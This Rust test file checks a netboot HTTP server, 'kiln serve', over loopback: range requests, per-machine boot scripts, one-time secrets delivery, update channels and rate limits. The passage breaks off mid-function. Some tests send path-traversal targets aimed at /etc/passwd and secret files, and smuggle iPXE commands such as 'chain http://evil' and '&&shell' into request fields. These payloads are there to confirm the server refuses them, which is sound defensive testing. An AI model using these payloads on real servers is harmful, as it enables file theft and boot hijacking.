//! Loopback tests of `kiln serve`: a real server on 127.0.0.1, real TCP clients.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::Path;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use sha2::{Digest, Sha256};

use super::*;

struct Running {
    addr: SocketAddr,
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Drop for Running {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

fn start(dir: &Path) -> Running {
    start_with(dir, Limits::default())
}

fn start_with(dir: &Path, limits: Limits) -> Running {
    run(Server::bind(dir, "127.0.0.1:0".parse().unwrap()).unwrap().with_limits(limits))
}

fn start_channels(dir: &Path, channels: Vec<Channel>) -> Running {
    run(Server::bind(dir, "127.0.0.1:0".parse().unwrap()).unwrap().with_channels(channels))
}

fn run(server: Server) -> Running {
    let addr = server.local_addr();
    let stop = Arc::new(AtomicBool::new(false));
    let flag = stop.clone();
    let thread = std::thread::spawn(move || server.run(&flag).unwrap());
    Running { addr, stop, thread: Some(thread) }
}

struct Response {
    status: u16,
    headers: String,
    body: Vec<u8>,
}

impl Response {
    fn header(&self, name: &str) -> Option<String> {
        self.headers.lines().find_map(|l| {
            let (k, v) = l.split_once(':')?;
            k.eq_ignore_ascii_case(name).then(|| v.trim().to_string())
        })
    }
    fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
}

/// Sends a raw request target (not normalised by any client library) and reads the answer.
fn request(addr: SocketAddr, method: &str, target: &str, extra: &str) -> Response {
    request_on(TcpStream::connect(addr).unwrap(), method, target, &format!("Host: 10.0.2.2:{}\r\n{extra}", addr.port()))
}

/// A connection to `addr` from the loopback address `from` (all of 127.0.0.0/8 is local on Linux).
fn connect_from(from: &str, addr: SocketAddr) -> TcpStream {
    let sock = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None).unwrap();
    sock.bind(&SocketAddr::new(from.parse().unwrap(), 0).into()).unwrap();
    sock.connect(&addr.into()).unwrap();
    sock.into()
}

/// Sends a request with exactly the header lines `headers` on `s` and reads the answer.
fn request_on(mut s: TcpStream, method: &str, target: &str, headers: &str) -> Response {
    write!(s, "{method} {target} HTTP/1.1\r\n{headers}\r\n").unwrap();
    let mut raw = Vec::new();
    // A server that refuses a head it did not read to the end resets the connection after its
    // answer: keep what arrived.
    let _ = s.read_to_end(&mut raw);
    let end = raw.windows(4).position(|w| w == b"\r\n\r\n").expect("a complete response head");
    let headers = String::from_utf8(raw[..end].to_vec()).unwrap();
    let status = headers.split(' ').nth(1).unwrap().parse().unwrap();
    Response { status, headers, body: raw[end + 4..].to_vec() }
}

/// A build output with an x86_64 netboot directory, a secret and a file outside it.
fn fixture() -> (tempfile::TempDir, tempfile::TempDir) {
    let out = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let nb = out.path().join("x86_64/netboot");
    std::fs::create_dir_all(&nb).unwrap();
    std::fs::write(nb.join("boot.ipxe"), crate::netboot::script_template("rack", "x86_64", "console=ttyS0", "5a5a")).unwrap();
    std::fs::write(nb.join("inventory"), "# MAC NODE\n52:54:00:00:00:0a node-a\n").unwrap();
    std::fs::write(nb.join("vmlinuz"), (0..=255u8).cycle().take(1000).collect::<Vec<u8>>()).unwrap();
    std::fs::create_dir_all(out.path().join("secrets")).unwrap();
    std::fs::write(out.path().join("secrets/cluster-token"), "K10secret").unwrap();
    std::fs::write(out.path().join(".hidden"), "x").unwrap();
    std::fs::write(outside.path().join("passwd"), "root:x:0:0").unwrap();
    std::os::unix::fs::symlink(outside.path().join("passwd"), out.path().join("x86_64/escape")).unwrap();
    std::os::unix::fs::symlink(outside.path(), out.path().join("x86_64/escapedir")).unwrap();
    std::os::unix::fs::symlink("netboot/vmlinuz", out.path().join("x86_64/inside")).unwrap();
    // What no machine may fetch although it lies inside: images with secrets, the server's own
    // files, and links into secrets/ (the review's finding 3), also under a name that is served.
    std::fs::write(out.path().join("x86_64/disk.img"), "disk with secrets").unwrap();
    std::fs::create_dir_all(out.path().join("Secrets")).unwrap();
    std::fs::write(out.path().join("Secrets/cluster-token"), "K10secret").unwrap();
    std::os::unix::fs::symlink("../secrets/cluster-token", out.path().join("x86_64/tok-link")).unwrap();
    std::os::unix::fs::symlink("../../secrets/cluster-token", nb.join("esp.img")).unwrap();
    std::os::unix::fs::symlink("../.hidden", out.path().join("x86_64/dot-link")).unwrap();
    // A node's secrets bundle, where `kiln build` keeps it.
    let bundles = out.path().join("secrets/netboot/x86_64");
    std::fs::create_dir_all(&bundles).unwrap();
    std::fs::write(bundles.join("node-a.cpio"), "node-a's K10secret bundle").unwrap();
    (out, outside)
}

#[test]
fn nothing_outside_the_directory_and_no_unknown_files() {
    let (out, _outside) = fixture();
    let srv = start(out.path());
    for target in [
        "/../../../../etc/passwd",
        "/x86_64/../../etc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/x86_64/netboot/%2E%2E/%2E%2E/secrets/cluster-token",
        "//etc/passwd",
        "/secrets/cluster-token",
        "/.hidden",
        "/serve-state.json",
        "/x86_64/escape",
        "/x86_64/escapedir/passwd",
        "/x86_64/netboot/",
        "/x86_64",
        "/no-such-file",
        "/x86_64/netboot/vmlinuz/x",
        "/x86_64/./netboot/vmlinuz",
        "/x86_64//netboot/vmlinuz",
        "/x86_64/netboot\\..\\..\\secrets",
        "/x86_64/disk.img",
        "/Secrets/cluster-token",
        "/x86_64/tok-link",
        "/x86_64/netboot/esp.img",
        "/x86_64/dot-link",
        "/x86_64/netboot/inventory",
        "/secrets/netboot/x86_64/node-a.cpio",
    ] {
        let r = request(srv.addr, "GET", target, "");
        assert_eq!(r.status, 404, "{target}: {}", r.headers);
        assert!(!r.text().contains("root:") && !r.text().contains("K10"), "{target}");
    }
    // A symlink that stays inside is followed; a path without a leading slash is a bad request.
    assert_eq!(request(srv.addr, "GET", "/x86_64/inside", "").body.len(), 1000);
    assert_eq!(request(srv.addr, "GET", "etc/passwd", "").status, 404);
    assert_eq!(request(srv.addr, "DELETE", "/x86_64/inside", "").status, 405);
}

#[test]
fn ranges_and_head() {
    let (out, _o) = fixture();
    let srv = start(out.path());
    let whole = std::fs::read(out.path().join("x86_64/netboot/vmlinuz")).unwrap();
    let r = request(srv.addr, "GET", "/x86_64/netboot/vmlinuz", "");
    assert_eq!((r.status, r.body.as_slice()), (200, whole.as_slice()));
    assert_eq!(r.header("accept-ranges").as_deref(), Some("bytes"));

    let r = request(srv.addr, "GET", "/x86_64/netboot/vmlinuz", "Range: bytes=10-19\r\n");
    assert_eq!(r.status, 206);
    assert_eq!(r.body, &whole[10..20]);
    assert_eq!(r.header("content-range").as_deref(), Some("bytes 10-19/1000"));
    assert_eq!(r.header("content-length").as_deref(), Some("10"));

    let r = request(srv.addr, "GET", "/x86_64/netboot/vmlinuz", "Range: bytes=990-\r\n");
    assert_eq!((r.status, r.body.as_slice()), (206, &whole[990..]));
    let r = request(srv.addr, "GET", "/x86_64/netboot/vmlinuz", "Range: bytes=-5\r\n");
    assert_eq!((r.status, r.body.as_slice()), (206, &whole[995..]));

    let r = request(srv.addr, "GET", "/x86_64/netboot/vmlinuz", "Range: bytes=1000-1001\r\n");
    assert_eq!(r.status, 416);
    assert_eq!(r.header("content-range").as_deref(), Some("bytes */1000"));
    assert!(r.body.is_empty());

    let r = request(srv.addr, "HEAD", "/x86_64/netboot/vmlinuz", "");
    assert_eq!(r.status, 200);
    assert_eq!(r.header("content-length").as_deref(), Some("1000"));
    assert!(r.body.is_empty(), "HEAD sends no body");
    let r = request(srv.addr, "HEAD", "/x86_64/netboot/vmlinuz", "Range: bytes=0-0\r\n");
    assert_eq!((r.status, r.header("content-length").as_deref(), r.body.len()), (206, Some("1"), 0));
}

#[test]
fn boot_script_per_machine_install_state_and_reinstall() {
    let (out, _o) = fixture();
    let srv = start(out.path());
    let port = srv.addr.port();

    // Without a MAC: chain back with iPXE's variables.
    let r = request(srv.addr, "GET", "/boot.ipxe", "");
    assert_eq!(r.status, 200);
    assert!(r.text().contains(&format!("chain http://10.0.2.2:{port}/boot.ipxe?mac=${{net0/mac}}&arch=${{buildarch}}")), "{}", r.text());

    // An inventory MAC (any case, `-` separators) gets its node; another MAC none.
    let r = request(srv.addr, "GET", "/boot.ipxe?mac=52-54-00-00-00-0A&arch=x86_64", "");
    let t = r.text();
    assert!(t.contains(&format!("set kiln-base http://10.0.2.2:{port}/x86_64/netboot/\n")), "{t}");
    assert!(t.contains("set kiln-node-arg kiln.node=node-a\n") && t.contains("kernel ${kiln-base}vmlinuz"), "{t}");
    let t = request(srv.addr, "GET", "/boot.ipxe?mac=52:54:00:00:00:0b&arch=x86_64", "").text();
    assert!(t.contains("kernel ${kiln-base}vmlinuz") && !t.contains("set kiln-node-arg"), "{t}");

    // No aarch64 output, a bad arch, a bad MAC: a script saying why, and no kernel.
    for q in ["mac=52:54:00:00:00:0b&arch=arm64", "mac=52:54:00:00:00:0b&arch=..%2F..", "mac=nonsense&arch=x86_64"] {
        let t = request(srv.addr, "GET", &format!("/boot.ipxe?{q}"), "").text();
        assert!(t.contains("echo kiln serve:") && !t.contains("kernel"), "{q}: {t}");
    }

    // The installer reports; the next boot goes to the disk; the state file says so.
    let cred = credential(&request(srv.addr, "GET", "/boot.ipxe?mac=52:54:00:00:00:0a&arch=x86_64", "").text());
    assert_eq!(
        request(srv.addr, "POST", &format!("/installed?mac=52:54:00:00:00:0a&arch=x86_64&image=abc123&cred={cred}"), "").status,
        200
    );
    assert_eq!(request(srv.addr, "POST", "/installed?mac=bogus", "").status, 400);
    let t = request(srv.addr, "GET", "/boot.ipxe?mac=52:54:00:00:00:0a&arch=x86_64", "").text();
    assert!(t.contains("exit") && t.contains("sanboot") && !t.contains("kernel"), "{t}");
    let state: state::State = serde_json::from_str(&std::fs::read_to_string(out.path().join("serve-state.json")).unwrap()).unwrap();
    let rec = &state.installed["52:54:00:00:00:0a"];
    assert_eq!((rec.arch.as_deref(), rec.node.as_deref(), rec.image.as_deref()), (Some("x86_64"), Some("node-a"), Some("abc123")));
    // Another machine is unaffected.
    assert!(request(srv.addr, "GET", "/boot.ipxe?mac=52:54:00:00:00:0b&arch=x86_64", "").text().contains("kernel"));

    // --reinstall (also while the server runs: the state is read per request).
    let missing = reinstall(out.path(), &["52:54:00:00:00:0A".into(), "52:54:00:00:00:0c".into()]).unwrap();
    assert_eq!(missing, vec!["52:54:00:00:00:0c".to_string()]);
    assert!(request(srv.addr, "GET", "/boot.ipxe?mac=52:54:00:00:00:0a&arch=x86_64", "").text().contains("kernel"));
    assert!(reinstall(out.path(), &["zz".into()]).is_err());
}

/// The `kiln.cred=` value of an installer script.
fn credential(script: &str) -> String {
    let at = script.find("kiln.cred=").unwrap_or_else(|| panic!("no credential in {script}")) + "kiln.cred=".len();
    script[at..].split_whitespace().next().unwrap().to_string()
}

#[test]
fn secrets_go_once_to_their_node_and_reports_need_the_install_credential() {
    let (out, _o) = fixture();
    let srv = start(out.path());
    let bundle = std::fs::read(out.path().join("secrets/netboot/x86_64/node-a.cpio")).unwrap();
    let node_a = "/boot.ipxe?mac=52:54:00:00:00:0a&arch=x86_64";

    // A machine outside the inventory gets a credential (to report its install) but no secrets.
    let stranger = request(srv.addr, "GET", "/boot.ipxe?mac=52:54:00:00:00:0b&arch=x86_64", "").text();
    assert!(!stranger.contains("kiln.secrets="), "{stranger}");
    let stranger_cred = credential(&stranger);
    let r = request(srv.addr, "GET", &format!("/secrets?mac=52:54:00:00:00:0b&cred={stranger_cred}"), "");
    assert_eq!(r.status, 403, "{}", r.text());
    // ... nor with its credential under the node's MAC.
    assert_eq!(request(srv.addr, "GET", &format!("/secrets?mac=52:54:00:00:00:0a&cred={stranger_cred}"), "").status, 403);

    // The node's script names the bundle by digest; a newer script replaces the credential.
    let first = request(srv.addr, "GET", node_a, "").text();
    let script = request(srv.addr, "GET", node_a, "").text();
    assert!(
        script.contains(&format!(
            "set kiln-cred-arg kiln.cred={} kiln.secrets={}\n",
            credential(&script),
            hex::encode(Sha256::digest(&bundle))
        )),
        "{script}"
    );
    assert_eq!(request(srv.addr, "GET", &format!("/secrets?mac=52:54:00:00:00:0a&cred={}", credential(&first)), "").status, 403);
    assert_eq!(request(srv.addr, "GET", "/secrets?mac=52:54:00:00:00:0a", "").status, 400);
    let cred = credential(&script);
    let r = request(srv.addr, "GET", &format!("/secrets?mac=52:54:00:00:00:0a&cred={cred}"), "");
    assert_eq!((r.status, r.body.as_slice()), (200, bundle.as_slice()));
    // Once per install.
    let again = request(srv.addr, "GET", &format!("/secrets?mac=52:54:00:00:00:0a&cred={cred}"), "");
    assert_eq!(again.status, 403);
    assert!(!again.text().contains("K10"), "{}", again.text());

    // Reports: none without the credential, a forged one is refused, the real one once.
    for forged in ["/installed?mac=52:54:00:00:00:0a&arch=x86_64", "/installed?mac=52:54:00:00:00:0a&cred=00000000000000000000000000000000"]
    {
        assert_eq!(request(srv.addr, "POST", forged, "").status, 403, "{forged}");
    }
    assert!(!out.path().join("serve-state.json").exists(), "a refused report changed the state");
    assert_eq!(request(srv.addr, "POST", &format!("/installed?mac=52:54:00:00:00:0a&arch=x86_64&cred={cred}"), "").status, 200);
    assert_eq!(request(srv.addr, "POST", &format!("/installed?mac=52:54:00:00:00:0a&arch=x86_64&cred={cred}"), "").status, 403);
    // Installed: its next boot gets no installer, so no credential and no secrets.
    assert!(!request(srv.addr, "GET", node_a, "").text().contains("kiln.cred="));
}

/// 50 machines (each its own loopback address, as the per-address cap expects) download a
/// system image at once; every copy must hash to the file's digest.
#[test]
fn fifty_concurrent_downloads_each_check_their_digest() {
    let (out, _o) = fixture();
    // 4 MiB of non-repeating bytes (a counter's digest stream), so a misplaced chunk shows.
    let mut data = Vec::with_capacity(4 << 20);
    let mut block = Sha256::digest(b"kiln");
    while data.len() < 4 << 20 {
        data.extend_from_slice(&block);
        block = Sha256::digest(block);
    }
    std::fs::write(out.path().join("x86_64/netboot/root.img"), &data).unwrap();
    let want = hex::encode(Sha256::digest(&data));
    let srv = start(out.path());
    let addr = srv.addr;
    let clients: Vec<_> = (0..50)
        .map(|i| {
            std::thread::spawn(move || {
                // Half read slowly at first, so downloads overlap.
                let host = format!("Host: 10.0.2.2:{}\r\n", addr.port());
                let r = request_on(connect_from(&format!("127.0.1.{}", i + 1), addr), "GET", "/x86_64/netboot/root.img", &host);
                if i % 2 == 0 {
                    std::thread::sleep(Duration::from_millis(5));
                }
                (r.status, hex::encode(Sha256::digest(&r.body)))
            })
        })
        .collect();
    for c in clients {
        let (status, got) = c.join().unwrap();
        assert_eq!(status, 200);
        assert_eq!(got, want);
    }
}

#[test]
fn stops_when_told() {
    let (out, _o) = fixture();
    let mut srv = start(out.path());
    srv.stop.store(true, Ordering::SeqCst);
    let t = srv.thread.take().unwrap();
    let started = Instant::now();
    t.join().unwrap();
    assert!(started.elapsed() < Duration::from_secs(2));
    assert!(TcpStream::connect(srv.addr).is_err(), "the listener is closed after a stop");
}

#[test]
fn dnsmasq_snippet_and_dhcp_settings_name_the_boot_url() {
    let s = dnsmasq_snippet("192.0.2.10:8080");
    assert!(s.contains("dhcp-range=192.0.2.0,proxy") && s.contains("undionly.kpxe") && s.contains("ipxe.efi"));
    assert!(s.contains("pxe-service=tag:ipxe,X86-64_EFI,\"kiln\",http://192.0.2.10:8080/boot.ipxe"));
    assert!(dhcp_settings("192.0.2.10:8080").contains("http://192.0.2.10:8080/boot.ipxe"));
}

/// The status of an answer already waiting on a non-blocking socket: `Some(0)` when the server
/// closed or reset it without one, `None` while it is still open and silent.
fn answered(s: &mut TcpStream) -> Option<u16> {
    let mut buf = [0u8; 512];
    match s.read(&mut buf) {
        Ok(0) => Some(0),
        Ok(n) => Some(String::from_utf8_lossy(&buf[..n]).split(' ').nth(1).and_then(|c| c.parse().ok()).unwrap_or(0)),
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => None,
        Err(_) => Some(0),
    }
}

/// 50 slow clients on 127.0.0.1 (25 that stop half-way through the head, 25 that trickle a byte
/// every 250 ms) do not hold up a machine installing from 127.0.0.2; the per-address cap turns
/// most of them away at once and the head deadline closes the rest, trickling or not.
#[test]
fn slow_and_idle_clients_do_not_hold_up_an_install() {
    let (out, _o) = fixture();
    let deadline = Duration::from_secs(2);
    let limits = Limits { head_deadline: deadline, ..Limits::default() };
    let srv = start_with(out.path(), limits);
    let t0 = Instant::now();
    let mut slow: Vec<TcpStream> = (0..50)
        .map(|_| {
            let mut s = connect_from("127.0.0.1", srv.addr);
            s.write_all(b"GET /x86_64/netboot/vmlinuz HTTP/1.1\r\nX-Slow: ").unwrap();
            s.set_nonblocking(true).unwrap();
            s
        })
        .collect();
    std::thread::sleep(Duration::from_millis(300));

    // A normal install meanwhile: the boot script, then a file.
    let host = format!("Host: 10.0.2.2:{}\r\n", srv.addr.port());
    let started = Instant::now();
    let script = request_on(connect_from("127.0.0.2", srv.addr), "GET", "/boot.ipxe?mac=52:54:00:00:00:0b&arch=x86_64", &host);
    let script_took = started.elapsed();
    let started = Instant::now();
    let kernel = request_on(connect_from("127.0.0.2", srv.addr), "GET", "/x86_64/netboot/vmlinuz", &host);
    let kernel_took = started.elapsed();
    assert_eq!((script.status, kernel.status, kernel.body.len()), (200, 200, 1000));
    assert!(script.text().contains("kernel ${kiln-base}vmlinuz"), "{}", script.text());
    assert!(script_took < Duration::from_secs(1) && kernel_took < Duration::from_secs(1), "{script_took:?} {kernel_took:?}");

    // Beyond the per-address cap: 503 at once (or a reset); the rest hold a slot, silent.
    let mut held = Vec::new();
    let mut refused = 0;
    for mut s in slow.drain(..) {
        match answered(&mut s) {
            None => held.push(s),
            Some(503 | 0) => refused += 1,
            Some(other) => panic!("a slow client got {other}"),
        }
    }
    assert_eq!((held.len(), refused), (limits.per_peer, 50 - limits.per_peer));

    // Trickling does not extend the deadline: every held connection is answered 408 by then.
    let mut closed = vec![None; held.len()];
    while closed.iter().any(Option::is_none) && t0.elapsed() < deadline + Duration::from_secs(5) {
        for (i, s) in held.iter_mut().enumerate() {
            if closed[i].is_none() {
                if i % 2 == 1 {
                    let _ = s.write(b"a");
                }
                closed[i] = answered(s).map(|status| (status, t0.elapsed()));
            }
        }
        std::thread::sleep(Duration::from_millis(250));
    }
    let latest = closed.iter().map(|c| c.expect("closed by the deadline").1).max().unwrap();
    assert!(closed.iter().all(|c| matches!(c, Some((408, _)))), "{closed:?}");
    assert!(latest < deadline + Duration::from_secs(3), "last slow client closed after {latest:?}");
    // Their slots are free again: the same address is served.
    let again = request_on(connect_from("127.0.0.1", srv.addr), "GET", "/x86_64/netboot/vmlinuz", &host);
    assert_eq!(again.status, 200);
    eprintln!(
        "with 50 slow clients: boot.ipxe in {script_took:?}, vmlinuz in {kernel_took:?}; {refused} refused at once, {} closed with 408 by {latest:?} (deadline {deadline:?})",
        held.len()
    );
}

/// Percent-encodes everything but letters and digits, as a hostile client may.
fn encode(s: &str) -> String {
    s.bytes().map(|b| if b.is_ascii_alphanumeric() { (b as char).to_string() } else { format!("%{b:02X}") }).collect()
}

/// iPXE syntax in `mac=`, `arch=` or `Host:` never reaches a script: bad values get 400 or a
/// refusal script that names the parameter, not the value.
#[test]
fn injection_attempts_produce_no_ipxe_command() {
    let (out, _o) = fixture();
    let srv = start(out.path());
    let injected = ["shell", "evil", "${net0", "${x}", "&&", "||"];
    let check = |what: &str, r: &Response| {
        assert!(r.status == 400 || r.status == 200, "{what}: {}", r.status);
        let t = r.text();
        if r.status == 200 {
            assert!(t.starts_with("#!ipxe\n") && !t.contains("kernel"), "{what}: {t}");
        }
        for bad in injected {
            assert!(!t.contains(bad), "{what}: `{bad}` in {t}");
        }
    };
    let good_host = format!("Host: 10.0.2.2:{}\r\n", srv.addr.port());
    for mac in
        ["01:02&&shell", "52:54:00:00:00:0b && shell", "${net0/ip}", "52:54:00:00:00:0b\nshell", "52:54:00:00:00:0b\tshell", " ${x} "]
    {
        let target = format!("/boot.ipxe?mac={}&arch=x86_64", encode(mac));
        check(mac, &request_on(TcpStream::connect(srv.addr).unwrap(), "GET", &target, &good_host));
    }
    for arch in ["x86_64||chain http://evil", "x86_64 && shell", "${x}", "x86_64\nchain http://evil", "x86_64 "] {
        let target = format!("/boot.ipxe?mac=52:54:00:00:00:0b&arch={}", encode(arch));
        check(arch, &request_on(TcpStream::connect(srv.addr).unwrap(), "GET", &target, &good_host));
    }
    for host in ["h&&shell", "10.0.2.2:1 || chain http://evil", "${net0/ip}", "h\tshell", "h\rshell", "h#shell", "h/evil", ""] {
        for target in ["/boot.ipxe", "/boot.ipxe?mac=52:54:00:00:00:0b&arch=x86_64"] {
            let r = request_on(TcpStream::connect(srv.addr).unwrap(), "GET", target, &format!("Host: {host}\r\n"));
            assert_eq!(r.status, 400, "{host:?}: {}", r.text());
            check(host, &r);
        }
    }
    // Without a Host header at all, as HTTP/1.0 clients may send.
    assert_eq!(request_on(TcpStream::connect(srv.addr).unwrap(), "GET", "/boot.ipxe", "").status, 400);
}

#[test]
fn oversized_heads_are_refused() {
    let (out, _o) = fixture();
    let srv = start(out.path());
    let many = "X-Filler: ".to_string() + &"a".repeat(1000) + "\r\n";
    let r = request_on(TcpStream::connect(srv.addr).unwrap(), "GET", "/x86_64/netboot/vmlinuz", &many.repeat(20));
    assert_eq!(r.status, 431, "{}", r.text());
    let r = request(srv.addr, "GET", &format!("/{}", "a".repeat(10_000)), "");
    assert_eq!(r.status, 431, "{}", r.text());
}

/// `/updates/<arch>/<file>` is `<arch>/update/<file>`: the bundle's files only, by no other
/// path, nothing escaping it, and never a bundle whose files are owner-only (secrets).
#[test]
fn update_bundles_are_served_under_updates_and_nothing_else_is() {
    use std::os::unix::fs::PermissionsExt;
    let (out, outside) = fixture();
    let bundle = out.path().join("x86_64/update");
    std::fs::create_dir_all(&bundle).unwrap();
    for f in crate::update::FILES {
        std::fs::write(bundle.join(f), format!("{f} bytes")).unwrap();
        std::fs::set_permissions(bundle.join(f), std::fs::Permissions::from_mode(0o644)).unwrap();
    }
    // Files that lie in the bundle directory but are no bundle file, and links out of it.
    std::fs::write(bundle.join("site.key"), "a signing key left there by mistake").unwrap();
    std::os::unix::fs::symlink(outside.path().join("passwd"), bundle.join("escape")).unwrap();
    std::os::unix::fs::symlink("../../secrets/cluster-token", out.path().join("aarch64-update-link")).unwrap();
    let srv = start(out.path());
    for f in crate::update::FILES {
        let r = request(srv.addr, "GET", &format!("/updates/x86_64/{f}"), "");
        assert_eq!((r.status, r.text()), (200, format!("{f} bytes")), "{f}");
    }
    let r = request(srv.addr, "GET", "/updates/x86_64/root.squashfs", "Range: bytes=0-3\r\n");
    assert_eq!((r.status, r.text().as_str()), (206, "root"));
    for target in [
        "/x86_64/update/update.txt",
        "/updates/x86_64/site.key",
        "/updates/x86_64/escape",
        "/updates/x86_64/../../secrets/cluster-token",
        "/updates/x86_64/%2e%2e/%2e%2e/secrets/cluster-token",
        "/updates/../secrets/cluster-token",
        "/updates/x86_64/",
        "/updates/x86_64/update.txt/x",
        "/updates/sparc/update.txt",
        "/updates/aarch64/update.txt",
        "/updates/secrets/update.txt",
        "/updates/x86_64/.hidden",
    ] {
        let r = request(srv.addr, "GET", target, "");
        assert_eq!(r.status, 404, "{target}: {}", r.text());
        assert!(!r.text().contains("signing key") && !r.text().contains("K10secret"), "{target}");
    }
    // A build with secrets writes its bundle owner-only: refused, saying why.
    std::fs::set_permissions(bundle.join("root.squashfs"), std::fs::Permissions::from_mode(0o600)).unwrap();
    let r = request(srv.addr, "GET", "/updates/x86_64/root.squashfs", "");
    assert_eq!(r.status, 403, "{}", r.text());
    assert!(r.text().contains("secrets") && !r.text().contains("root.squashfs bytes"), "{}", r.text());
}

#[test]
fn update_paths_map_onto_the_bundle_directory() {
    assert_eq!(update_path("/updates/x86_64/update.txt"), Some((None, "/x86_64/update/update.txt".to_string())));
    assert_eq!(update_path("/updates/testing/x86_64/latest"), Some((Some("testing"), "/x86_64/update/latest".to_string())));
    assert_eq!(update_path("/updates/x86_64/"), None);
    assert_eq!(update_path("/updates/a/b/c/d"), None);
    assert_eq!(update_path("/updates//update.txt"), None);
    assert_eq!(update_path("/updates//x86_64/update.txt"), None);
    assert_eq!(update_path("/x86_64/update.txt"), None);
}

/// `--channel NAME=DIR`: another output directory's bundles at `/updates/NAME/<arch>/`, the
/// `latest` pointer of each channel and arch, and nothing of the channel's directory but its
/// bundle files.
#[test]
fn channels_serve_other_directories_bundles_and_latest_points_at_each() {
    use std::os::unix::fs::PermissionsExt;
    let (out, _outside) = fixture();
    let testing = tempfile::tempdir().unwrap();
    for (dir, version) in [(out.path(), "1.0.0"), (testing.path(), "2.0.0-rc")] {
        let bundle = dir.join("x86_64/update");
        std::fs::create_dir_all(&bundle).unwrap();
        for f in crate::update::FILES {
            let text = if f == crate::update::MANIFEST {
                format!("kiln-update 1\nprofile lab\narch x86_64\nversion {version}\nbuild 0123456789abcdef\ndowngrade no\n")
            } else {
                format!("{f} of {version}")
            };
            std::fs::write(bundle.join(f), text).unwrap();
            std::fs::set_permissions(bundle.join(f), std::fs::Permissions::from_mode(0o644)).unwrap();
        }
    }
    std::fs::create_dir_all(testing.path().join("secrets")).unwrap();
    std::fs::write(testing.path().join("secrets/cluster-token"), "K10secret").unwrap();
    let channel = Channel::parse(&format!("testing={}", testing.path().display())).unwrap();
    let srv = start_channels(out.path(), vec![channel]);

    let r = request(srv.addr, "GET", "/updates/testing/x86_64/root.squashfs", "");
    assert_eq!((r.status, r.text()), (200, "root.squashfs of 2.0.0-rc".to_string()));
    let r = request(srv.addr, "GET", "/updates/x86_64/root.squashfs", "");
    assert_eq!((r.status, r.text()), (200, "root.squashfs of 1.0.0".to_string()), "the served directory stays the default");
    let r = request(srv.addr, "GET", "/updates/testing/x86_64/latest", "");
    assert_eq!(
        (r.status, r.text()),
        (200, "profile lab\narch x86_64\nversion 2.0.0-rc\nbuild 0123456789abcdef\nurl /updates/testing/x86_64/\n".to_string())
    );
    let r = request(srv.addr, "GET", "/updates/x86_64/latest", "");
    assert!(r.status == 200 && r.text().contains("version 1.0.0\n") && r.text().ends_with("url /updates/x86_64/\n"), "{}", r.text());
    for (target, why) in [
        ("/updates/stable/x86_64/update.txt", "no update channel `stable`; channels: testing"),
        ("/updates/testing/aarch64/latest", "no bundle for this arch"),
        ("/updates/testing/x86_64/xlatest", "not found"),
        ("/updates/testing/../secrets/cluster-token", "not found"),
        ("/updates/testing/x86_64/../../secrets/cluster-token", "not found"),
        ("/updates/testing/secrets/cluster-token", "not found"),
        ("/testing/x86_64/update/update.txt", "not found"),
    ] {
        let r = request(srv.addr, "GET", target, "");
        assert_eq!(r.status, 404, "{target}: {}", r.text());
        assert!(r.text().contains(why) && !r.text().contains("K10secret"), "{target}: {}", r.text());
    }
}

#[test]
fn channel_names_and_directories_are_checked() {
    let empty = tempfile::tempdir().unwrap();
    let e = empty.path().display();
    for (arg, want) in [
        ("testing".to_string(), "expected NAME=DIR"),
        (format!("Testing={e}"), "must be 1 to 32 of a-z, 0-9 and -"),
        (format!("-x={e}"), "must be 1 to 32"),
        (format!("={e}"), "must be 1 to 32"),
        (format!("x86_64={e}"), "is an architecture"),
        ("testing=/nonexistent/out".to_string(), "/nonexistent/out"),
        (format!("testing={e}"), "holds no update bundle"),
    ] {
        let err = Channel::parse(&arg).unwrap_err();
        assert!(err.contains(want), "{arg}: {err}");
    }
}

// --- `kiln serve --rollout` over HTTP: 3 etcd members, a server and 2 agents. ---

/// A test clock: the real start plus seconds the test adds.
struct TestClock {
    base: Instant,
    offset: Arc<std::sync::atomic::AtomicU64>,
}

impl TestClock {
    fn new() -> TestClock {
        TestClock { base: Instant::now(), offset: Arc::new(std::sync::atomic::AtomicU64::new(0)) }
    }
    fn clock(&self) -> Clock {
        let (base, offset) = (self.base, self.offset.clone());
        Arc::new(move || base + Duration::from_secs(offset.load(Ordering::SeqCst)))
    }
    fn advance(&self, secs: u64) {
        self.offset.fetch_add(secs, Ordering::SeqCst);
    }
}

const INVENTORY: [(&str, &str); 6] =
    [("etcd-1", "etcd"), ("etcd-2", "etcd"), ("etcd-3", "etcd"), ("srv-1", "server"), ("a-1", "agent"), ("a-2", "agent")];

/// A build output with an x86_64 update bundle for [`INVENTORY`] at 2.0.0 and its rollout key.
fn rollout_fixture() -> (tempfile::TempDir, [u8; 32]) {
    let out = tempfile::tempdir().unwrap();
    let bundle = out.path().join("x86_64/update");
    std::fs::create_dir_all(&bundle).unwrap();
    let mut txt = "kiln-update 1\nprofile rack\narch x86_64\nversion 2.0.0\nbuild 0011223344556677\ndowngrade no\n".to_string();
    for (n, r) in INVENTORY {
        txt.push_str(&format!("node {n} {r}\n"));
    }
    std::fs::write(bundle.join("update.txt"), txt).unwrap();
    let master = crate::cluster::secrets::load_or_create_rollout_key(out.path()).unwrap();
    (out, master)
}

fn start_rollout(dir: &Path, clock: &TestClock) -> Running {
    let settings = rollout::Settings { max_unavailable: 2, ..rollout::Settings::default() };
    let r = Rollout::load(dir, settings, (clock.clock())()).unwrap();
    let server = Server::bind(dir, "127.0.0.1:0".parse().unwrap()).unwrap().with_rollout(r).with_clock(clock.clock());
    let addr = server.local_addr();
    let stop = Arc::new(AtomicBool::new(false));
    let flag = stop.clone();
    let thread = std::thread::spawn(move || server.run(&flag).unwrap());
    Running { addr, stop, thread: Some(thread) }
}

/// The query of a report signed with `key` over `nonce`.
fn report_query(key: &[u8; 32], node: &str, version: &str, state: &str, nonce: &str) -> String {
